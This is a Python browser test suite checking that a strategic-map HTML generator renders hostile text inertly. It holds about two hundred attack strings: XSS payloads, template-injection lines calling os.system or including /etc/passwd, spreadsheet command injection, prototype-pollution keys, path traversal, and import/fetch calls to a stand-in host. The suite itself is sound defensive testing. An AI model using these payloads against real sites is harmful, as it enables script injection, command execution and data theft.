"""Text that tries to run, in every place where text goes in: none of it does, and all of it is shown."""

import json
from dataclasses import replace

import geopandas as gpd
import pandas as pd
import pytest
from shapely import Point, box
from tests.maps.conftest import ARGUMENT, put_in

from rimland.layers import LANGUAGES, Source, load_theatre
from rimland.maps import StrategicMap, StyleError
from rimland.maps.text import inert_json

pytestmark = pytest.mark.browser

# Whatever runs says so in `window.pwned`, or in a file of this name, or as a dialog, or as a request.
MARK = "pwned"

TEMPLATES = [
    "{{ 7*7 }}",
    "{{ cycler.__init__.__globals__.os.system('touch pwned') }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "{# never closed",
    "{{ 'never closed'",
    "{%",
    "}}",
    "${alert(1)}",
    "`${window.pwned=1}`",
    "#{7*7}",
    "<%= 7*7 %>",
]

MARKUP = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</SCRIPT ><script>window.pwned=1</script>",
    "<!--<script>",
    "--><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</noscript><script>window.pwned=1</script>",
    "]]><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=https://example.org/pwned.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:window.pwned=1></iframe>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<math><mtext></mtext><style><img src=x onerror=window.pwned=1></style></math>",
    "<link rel=stylesheet href=https://example.org/pwned.css>",
    "<meta http-equiv=refresh content='0;url=https://example.org/pwned'>",
    "<base href=https://example.org/>",
    "<form action=https://example.org/pwned><input type=submit></form>",
    "<object data=javascript:window.pwned=1>",
    "<template><script>window.pwned=1</script></template>",
    "<style>@import 'https://example.org/pwned.css';</style>",
    "<style>*{background:url(https://example.org/pwned)}</style>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<b>bold</b>",
]

QUOTES = [
    '"',
    "'",
    "`",
    "\\",
    '\\"',
    '" onmouseover="window.pwned=1',
    "' onmouseover='window.pwned=1",
    '";window.pwned=1;//',
    "';window.pwned=1;//",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:pwned",
    "$&$`$'$1",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "__proto__",
    "constructor",
    "toString",
    "url(https://example.org/pwned)",
    "expression(window.pwned=1)",
    '=HYPERLINK("https://example.org/pwned")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../pwned",
    "/etc/passwd",
    "C:\\pwned",
]

UNICODE = [
    "line\u2028separator",
    "paragraph\u2029separator",
    "\u202eright to left override",
    "\u2066isolate\u2069",
    "\u202dleft to right",
    "zero\u200bwidth\ufeff",
    "lone\ud800surrogate",
    "lone\udfff",
    "nul\0byte",
    "bell\x07",
    "line\nbreak\r\nand\ttab",
    "\ufffe\uffff",
    "\ufdd0",
    "e" + "\u0301" * 60,
    "\U0001f1f9\U0001f1fc\U0001f1ef\U0001f1f5",
    "\U000e0041\U000e0042",
    "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e",
    "\u2039script\u203a",
    "a" * 5000,
    "あ" * 5000,
    " " * 100 + "x",
    "<" * 500,
]

PAYLOADS = [
    "window.pwned=1",
    "import('https://example.org/pwned.js')",
    "fetch('https://example.org/pwned')",
    "alert(1)",
]
HANDLERS = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "onanimationstart", "onpointerenter", "onbegin"]
ELEMENTS = ["img src=x", "svg", "input autofocus", "video src=x", "body", "details open"]
WRAPPED = [
    f"<{element} {handler}={payload!r}>" for element in ELEMENTS for handler in HANDLERS for payload in PAYLOADS
][::2]
CLOSED = [
    f"{end}<script>{payload}</script>"
    for end in ("</script>", "</style>", "</title>", "-->", "'>", '">', "`", "*/", "]]>", "</svg>")
    for payload in PAYLOADS
]

STRINGS = [*TEMPLATES, *MARKUP, *QUOTES, *UNICODE, *CLOSED, *WRAPPED]


def no_complaint(watched, path) -> None:
    assert watched.complaints == []
    assert [url for url in watched.requests if not url.startswith(path.as_uri())] == []


COLUMNS = (
    *("id", "name_en", "name_ja", "name_zh_hant", "name", "source", "note_en", "note_ja", "status", "claimants"),
    *("administered_by", "position_grade", "fact_grade", "valid_from", "group_en", "group_ja", "side_a", "extra"),
)


def hostile_frame(offset: int) -> gpd.GeoDataFrame:
    """A point for each string, with a different one in each of its columns, and two in the columns' own names."""
    rows = len(STRINGS)
    data = {
        column: [STRINGS[(row + turn * 7 + offset) % rows] for row in range(rows)]
        for turn, column in enumerate(COLUMNS)
    }
    data["id"] = [f"{text}{row}" for row, text in enumerate(data["id"])]  # a string may stand twice in the list
    data |= {STRINGS[5]: STRINGS, "<img src=x onerror=window.pwned=1>": STRINGS}
    # As objects: pandas' own texts are UTF-8 and cannot hold a lone surrogate.
    columns = {name: pd.Series(values, dtype=object) for name, values in data.items()}
    shapes = [Point(118.5 + row % 30 * 0.5, 20.5 + row // 30 * 0.8) for row in range(rows)]
    return gpd.GeoDataFrame(columns, geometry=shapes, crs=4326)


def nothing_ran(watched, path, folder) -> None:
    assert watched.page.evaluate("window.pwned") is None
    no_complaint(watched, path)
    assert not list(folder.rglob(MARK))


def test_two_hundred_hostile_strings_in_features_are_shown_as_text_and_none_runs(theatre, tmp_path, watch, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert len(STRINGS) >= 200
    made = StrategicMap(theatre, lang="en")
    for number, shape in enumerate((hostile_frame(0), hostile_frame(3))):
        made.add(shape, name=STRINGS[number])
    path = made.save(tmp_path / "map.html")
    watched = watch()
    page = watched.open(path)
    page.get_by_role("button", name="Table of features").click()
    table = page.locator("#table-body").text_content()
    for text in STRINGS:
        wanted = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\ufffd")
        assert wanted in table, repr(text[:60])
    page.get_by_role("button", name="Close").last.click()
    for language in ("日本語", "中文", "English"):
        page.get_by_role("button", name=language, exact=True).click()
    hits = page.locator("path.hit[aria-label]")
    for turn in range(0, hits.count(), 9):
        hits.nth(turn).focus()
        page.keyboard.press("Enter")
    nothing_ran(watched, path, tmp_path)


HOSTILE_TITLES = [text for text in STRINGS if text.strip()][::12]


@pytest.mark.parametrize("text", HOSTILE_TITLES, ids=range(len(HOSTILE_TITLES)))
def test_a_hostile_title_of_layer_or_theatre_is_text(theatre, tmp_path, watch, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    chosen = load_theatre(theatre)
    texts = dict.fromkeys(("en", "ja", "zh-Hant"), text)
    source = Source(id="survey", title=text, publisher=text, date=text, url=text, licence=text)
    bad = replace(
        chosen.catalog["islands"], name="bad", title=texts, summary=texts, caveat=texts, group=text, as_of=text,
        licence=text, sources=(source,), gaps=(texts,), edges="geodesic",
    )  # fmt: skip
    made = StrategicMap(replace(chosen, title=texts), lang="en").add(bad)
    made.add(box(130, 30, 131, 31), name=text)
    path = made.save(tmp_path / "map.html")
    watched = watch()
    page = watched.open(path)
    for more in page.locator(".more").all():
        more.click()
    page.locator('path[aria-label^="Big,"]').last.focus()
    page.keyboard.press("Enter")
    shown = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\ufffd")
    assert page.locator("#title").text_content() == shown
    assert shown in page.locator("#legend").text_content()
    links = page.eval_on_selector_all("a[href]", "all => all.map(one => one.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", "file:"}
    nothing_ran(watched, path, tmp_path)


NAMES_OF_JAVASCRIPT = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype", "$", "length"]


def test_names_and_values_that_mean_something_to_javascript_are_only_names_and_values(theatre, tmp_path, watch):
    """Columns, ids, kinds and values called as the properties of every object; numbers too large, and none at all."""
    rows = len(NAMES_OF_JAVASCRIPT)
    extremes = [1e308, -1e308, float("nan"), float("inf"), -float("inf"), 2.0**53 + 2, 5e-324, -0.0]
    columns = {
        "id": NAMES_OF_JAVASCRIPT,
        "name_en": NAMES_OF_JAVASCRIPT,
        "status": NAMES_OF_JAVASCRIPT,
        "source": NAMES_OF_JAVASCRIPT,
        "position_grade": NAMES_OF_JAVASCRIPT,
        "huge": extremes,
        "vast": [10**400] * rows,
        "nested": [[[[[["deep"]]]]]] * rows,
        "mapped": [{"__proto__": {"polluted": True}}] * rows,
    }
    columns |= {name: ["value"] * rows for name in NAMES_OF_JAVASCRIPT}
    shapes = [Point(124 + 0.5 * row, 30) for row in range(rows)]
    frame = gpd.GeoDataFrame(
        {name: pd.Series(values, dtype=object) for name, values in columns.items()}, geometry=shapes, crs=4326
    )
    path = StrategicMap(theatre, lang="en").add(frame, name="__proto__").save(tmp_path / "map.html")
    watched = watch()
    page = watched.open(path)
    assert page.evaluate("({}).polluted") is None
    hits = page.locator('path.hit[aria-label*="__proto__"]')
    for turn in range(hits.count()):
        hits.nth(turn).focus()
        page.keyboard.press("Enter")
        card = page.locator("#card").text_content()
        assert "[native code]" not in card
        assert "[object" not in card
        assert "undefined" not in card
        assert "NaN" not in card
        for name in NAMES_OF_JAVASCRIPT:
            assert name in card
    assert hits.count() == rows
    nothing_ran(watched, path, tmp_path)


LINKS = [
    "lang=__proto__&off=__proto__~constructor&fade=__proto__:1~constructor:0.5&sel=__proto__~constructor",
    "lang=<img src=x onerror=window.pwned=1>&off=<script>window.pwned=1</script>",
    "map=1e999/NaN/Infinity&lang=en",
    "map=-5/91/1e300&sel=islands~big",
    "step=-1&scenario=constructor&time=__proto__&mode=toString",
    "step=1e9&mode=__proto__&scenario=<img src=x onerror=window.pwned=1>&time=9999-99-99",
    "q=%00%ff%&&&===%E0%A4%A&lang=%",
    "javascript:window.pwned=1",
    "lang=en&" + "off=" + "a~" * 5000,
]


@pytest.mark.parametrize("fragment", LINKS, ids=range(len(LINKS)))
def test_a_link_made_by_a_stranger_opens_the_map_and_nothing_else(theatre, tmp_path, watch, fragment):
    path = StrategicMap(theatre, lang="en").save(tmp_path / "map.html")
    watched = watch()
    page = watched.open(path, f"#{fragment}")
    assert page.locator("#title").text_content() == "A sample"
    assert page.evaluate("({}).polluted") is None
    nothing_ran(watched, path, tmp_path)


@pytest.mark.parametrize(
    "value", ["red;}", "url(x)", "expression(1)", "#fff", "#0072b2;x", "\u202e#0072b2", "#0072B2\n"]
)
@pytest.mark.parametrize("field", ["colour", "fill"])
def test_a_style_that_is_more_than_a_colour_is_refused_before_it_reaches_the_page(theatre, field, value):
    with pytest.raises(StyleError, match=field):
        StrategicMap(theatre).add(Point(121, 24), name="Mine", style={field: value})


def test_hostile_strings_in_the_story_the_scenario_and_the_time_line_are_shown_as_text(argued, tmp_path, watch):
    """One page with every string in a step's texts, a scenario's, and an event's, in each of the three languages."""
    texts = iter([dict.fromkeys(LANGUAGES, text) for text in STRINGS * 2])
    parts = ("title", "claim", "number", "caveat", "source")
    steps = [
        ARGUMENT["story"][0] | {"id": f"step-{place}"} | {part: next(texts) for part in parts}
        for place in range(len(STRINGS) // len(parts))
    ]
    events = [{"date": "2020-01-01", "text": next(texts), "layer": "x", "feature": None} for _ in STRINGS]
    first = ARGUMENT["scenarios"][0]
    scenario = first | {"title": dict.fromkeys(LANGUAGES, MARKUP[0]), "summary": dict.fromkeys(LANGUAGES, MARKUP[10])}
    page = tmp_path / "map.html"
    page.write_text(argued.read_text(encoding="utf-8"), encoding="utf-8")
    put_in(page, {"story": steps, "events": events, "scenarios": [scenario]})
    watched = watch()
    opened = watched.open(page)
    shown = " ".join(opened.locator(pane).text_content() for pane in ("#pane-story", "#pane-scenario", "#pane-time"))
    for text in STRINGS:
        wanted = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\ufffd")
        assert wanted in shown, repr(text[:60])
    nothing_ran(watched, page, tmp_path)


def shown_as(text: str) -> str:
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\ufffd")


def test_hostile_strings_in_the_line_of_attribution_are_shown_as_text(theatre, tmp_path, watch, monkeypatch):
    """Every string as a publisher and as a licence: those that the line under the map must name."""
    monkeypatch.chdir(tmp_path)
    chosen = load_theatre(theatre)
    told = [text for text in STRINGS if text.strip()]
    sources = tuple(
        Source(id=f"s{place}", title="t", publisher=text, date="2024", url=None, licence=told[-1 - place])
        for place, text in enumerate(told)
    )
    bad = replace(chosen.catalog["islands"], name="bad", sources=sources, edges="geodesic")
    path = StrategicMap(chosen, lang="en").add(bad).save(tmp_path / "map.html")
    watched = watch()
    line = watched.open(path).locator(".attribution").text_content()
    assert len(told) >= 200
    for text in told:
        assert shown_as(text).replace("\r\n", "\n") in line, repr(text[:60])  # HTML has one kind of line end
    nothing_ran(watched, path, tmp_path)


def test_hostile_style_values_put_in_behind_our_backs_draw_with_the_plain_style(theatre, tmp_path, watch, monkeypatch):
    """The makers of the page refuse them, and the viewer does not trust its data either: a swatch for every string."""
    monkeypatch.chdir(tmp_path)
    path = StrategicMap(theatre, lang="en").save(tmp_path / "map.html")
    page = path.read_text(encoding="utf-8")
    start = page.index('class="layer-data">', page.index('"zones"') - 60) + len('class="layer-data">')
    end = page.index("</script>", start)
    layer = json.loads(page[start:end])
    styles = [{"colour": text, "fill": text, "dash": [text], "symbol": text, "width": text} for text in STRINGS]
    layer["styles"] = [{"style": style, "title": dict.fromkeys(LANGUAGES, "s")} for style in styles]
    path.write_text(page[:start] + inert_json(layer) + page[end:], encoding="utf-8")
    watched = watch()
    opened = watched.open(path)
    swatches = opened.locator(".classes:has(li:nth-child(200)) .swatch > *")
    assert swatches.count() >= len(STRINGS) >= 200
    assert swatches.evaluate_all("all => [...new Set(all.map((one) => one.getAttribute('stroke')))]") == ["#1d2730"]
    nothing_ran(watched, path, tmp_path)


FILE_NAMES = [text for text in STRINGS if text.isprintable() and "/" not in text and len(text.encode()) < 200][::14]


@pytest.mark.parametrize("name", FILE_NAMES, ids=range(len(FILE_NAMES)))
def test_a_map_saved_under_a_hostile_file_name_opens_there(theatre, tmp_path, watch, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "saved"
    folder.mkdir()
    path = StrategicMap(theatre, lang="en").save(folder / f"{name}.html")
    assert [one.name for one in folder.iterdir()] == [f"{name}.html"]
    watched = watch()
    assert watched.open(path).locator("#title").text_content() == "A sample"
    assert watched.page.evaluate("window.pwned") is None
    no_complaint(watched, path)
